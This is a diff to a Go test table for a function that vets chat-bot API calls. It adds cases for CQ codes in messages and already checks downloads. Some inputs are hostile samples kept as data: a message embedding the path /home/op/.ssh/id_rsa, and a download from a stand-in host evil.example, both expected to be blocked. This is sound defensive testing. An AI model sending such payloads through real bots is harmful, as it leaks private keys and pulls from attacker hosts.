@@ -65,6 +65,8 @@ func TestJudge(t *testing.T) {
 		{"no text, no chat", "delete_msg", `{"message_id":5}`, "", true, ""},
 		{"unreadable target", "send_group_msg", `{"group_id":"abc","message":"hi"}`, "", false, "not an id"},
 		{"stream chunks go to SnowLuma's store", "upload_file_stream", `{"stream_id":"s","chunk_data":"aGk=","chunk_index":0,"total_chunks":1}`, "", true, ""},
+		{"local path in a CQ code", "send_group_msg", `{"group_id":1,"message":"look [CQ:image,file=/home/op/.ssh/id_rsa] here"}`, "", false, "local file /home/op/.ssh/id_rsa"},
+		{"a CQ code without a local file", "send_group_msg", `{"group_id":1,"message":"[CQ:face,id=1] hi"}`, "", true, ""},
 		{"a group file id is no path", "trans_group_file", `{"group_id":1,"file_id":"/0806-96a9"}`, "", true, ""},
 		{"a download takes nothing out", "download_file_stream", `{"file_id":"/0806-96a9","file":"/etc/hosts"}`, "", true, ""},
 		{"a download from a URL", "download_file_stream", `{"file":"http://evil.example/?d=1"}`, "", false, "URL http://evil.example/?d=1"},
